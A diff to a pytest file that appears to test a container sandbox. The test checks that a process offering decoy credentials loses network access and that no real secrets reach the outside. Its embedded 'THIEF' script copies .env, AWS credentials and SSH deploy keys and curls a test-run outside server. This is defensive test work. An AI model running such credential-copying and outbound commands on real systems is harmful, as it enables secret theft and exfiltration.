@@ -7,7 +7,7 @@ import re
 import socket
 import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, HTTPServer
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
@@ -15,8 +15,8 @@ pytestmark = pytest.mark.docker
 
 THIEF = r"""
 cd ~
-direct() { curl -s -m 3 --noproxy '*' "$DIRECT" || echo "direct: $?"; }
-[ "$DIRECT" = - ] || direct
+direct() { curl -s -m ${1:-3} --noproxy '*' "$DIRECT" || echo "direct: $?"; }
+[ "$DIRECT" = - ] || direct 20
 ls -la .env .aws .ssh > /workspace/files
 cp .env .aws/credentials .ssh/id_deploy .ssh/id_deploy.pub /workspace
 ssh-keygen -y -f .ssh/id_deploy > /workspace/derived.pub
@@ -30,6 +30,8 @@ exit 7
 
 
 class Elsewhere(BaseHTTPRequestHandler):
+    timeout = 5  # a connection that a freeze cut off says nothing any more, not even that it is over
+
     def do_GET(self) -> None:
         self.send_response(200)
         self.end_headers()
@@ -45,7 +47,7 @@ def elsewhere() -> Iterator[str]:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as looking:
         looking.connect(("192.0.2.1", 9))  # sends nothing; says by which address this machine is known
         address = looking.getsockname()[0]
-    server = HTTPServer((address, 0), Elsewhere)
+    server = ThreadingHTTPServer((address, 0), Elsewhere)
     thread = threading.Thread(target=server.serve_forever)
     thread.start()
     yield f"http://{address}:{server.server_port}/"
@@ -103,7 +105,8 @@ def test_who_sends_a_decoy_loses_the_network(moat, workspace, github, elsewhere,
         assert word not in everything
     # No host's file and no upstream has a value of theirs.
     values = [key_id, secret, *re.findall(r"[=:](\w{24,})", (workspace / ".env").read_text())]
-    values.append((workspace / "id_deploy").read_text().splitlines()[4])
+    line = (workspace / "id_deploy").read_text().splitlines()[4]
+    values.append(line.removeprefix("AAAAE")[1:43])  # what comes after the secret half is public
     assert len(values) == 6
     for value in values:
         assert value not in (workspace / "env").read_text()
